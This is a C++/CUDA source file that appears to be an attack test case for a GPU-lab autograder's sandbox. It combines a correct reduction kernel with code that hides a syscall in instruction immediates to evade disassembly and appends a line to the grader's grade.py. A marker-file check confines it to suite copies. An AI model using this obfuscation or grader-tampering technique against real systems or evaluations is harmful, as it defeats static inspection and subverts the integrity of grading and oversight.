/*
 * ATTACK 16-capability-hidden-syscall: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 03-sequential, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: make system calls that neither the symbol table nor a disassembly shows, and use them to change the kit's
 *   grader.
 *
 * How: the syscall instruction hides in the immediates of four movabs instructions (see sys() below): entering the
 *   function two bytes in runs `mov ...; syscall; ret`. With it: open(KIT/grader/grade.py, O_APPEND) and write a
 *   line.
 *
 * Safety: the file it changes is inside the kit copy the suite made (kit_root() needs the suite's marker).
 */
#include "reduce.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- system calls that no disassembler shows ----
 * Four movabs instructions whose 8-byte immediates, entered two bytes in, are another program:
 *     mov %rdi,%rax; mov %rsi,%rdi; jmp +2 | mov %rdx,%rsi; mov %rcx,%rdx; jmp +2 |
 *     mov %r8,%r10; mov %r9,%r8; jmp +2    | xor %r9,%r9; syscall; ret
 * so sys(nr, a, b, c, d, e) is the system call nr with arguments a..e. objdump -d sees four moves and a return; there
 * is no syscall instruction and no call of syscall() in the object. */
#ifndef __CUDA_ARCH__
asm(".pushsection .text\n"
    ".p2align 4\n"
    ".type ppl_four_moves, @function\n"
    "ppl_four_moves:\n"
    "    movabs $0x02ebf78948f88948, %rax\n"
    "    movabs $0x02ebca8948d68948, %rax\n"
    "    movabs $0x02ebc8894dc2894d, %rax\n"
    "    movabs $0x9090c3050fc9314d, %rax\n"
    "    ret\n"
    ".size ppl_four_moves, .-ppl_four_moves\n"
    ".popsection\n");
#endif
extern "C" void ppl_four_moves(void);

__attribute__((unused)) static const char *program_path(void) { return NULL; }

static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0)
{
    typedef long (*raw_call)(long, long, long, long, long, long);
    return ((raw_call)((char *)&ppl_four_moves + 2))(nr, a, b, c, d, e);
}

/* x86-64 Linux system call numbers */
enum {
    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
};
enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };

/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
 * runs' logs to see which layer stopped it. */
static long said(const char *what, long result)
{
    printf("attack: %s -> %ld\n", what, result);
    fflush(stdout);
    return result;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
    if (sys(NR_access, (long)probe, 0) != 0)
        return false;
    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
    return sys(NR_access, (long)probe, 0) == 0;
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, long cap)
{
    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
        return true;
    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
    if (len > 0)
        root[len] = '\0';
    else if (program_path())
        snprintf(root, cap, "%s", program_path());
    else
        return said("the kit's root: none found", -1) > 0;
    char *copy = strstr(root, "/ppl-attacks-"), *kit = strstr(root, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        return true;
    }
    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
        *slash = '\0';
        if (is_kit_copy(root))
            return true;
    }
    return said("the kit's root: none found", -1) > 0;
}

/* Appends text to the file at path (created if missing). */
static bool raw_append(const char *path, const char *text)
{
    const long fd = sys(NR_open, (long)path, O_WRONLY_ | O_CREAT_ | O_APPEND_, 0644);
    if (fd < 0)
        return false;
    const long done = sys(NR_write, fd, (long)text, (long)strlen(text));
    sys(NR_close, fd);
    return done == (long)strlen(text);
}

#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */

/* Lab 03's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
__global__ void reduce_kernel(const float *src, float *dst, size_t count)
{
    __shared__ float partial[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
    partial[t] = i < count ? src[i] : 0.0f;
    __syncthreads();
    for (unsigned stride = BLOCK_DIM / 2; stride > 0; stride /= 2) {
        if (t < stride)
            partial[t] += partial[t + stride];
        __syncthreads();
    }
    if (t == 0)
        dst[blockIdx.x] = partial[0];
}

static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
{
    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
}

static void attack(void)
{
    char root[4096], path[4200];
    if (!kit_root(root, sizeof root))
        return;
    snprintf(path, sizeof path, "%s/grader/grade.py", root);
    said("append to KIT/grader/grade.py",
         raw_append(path, "# appended by a lab program through a system call hidden in an immediate\n") ? 0 : -1);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
}
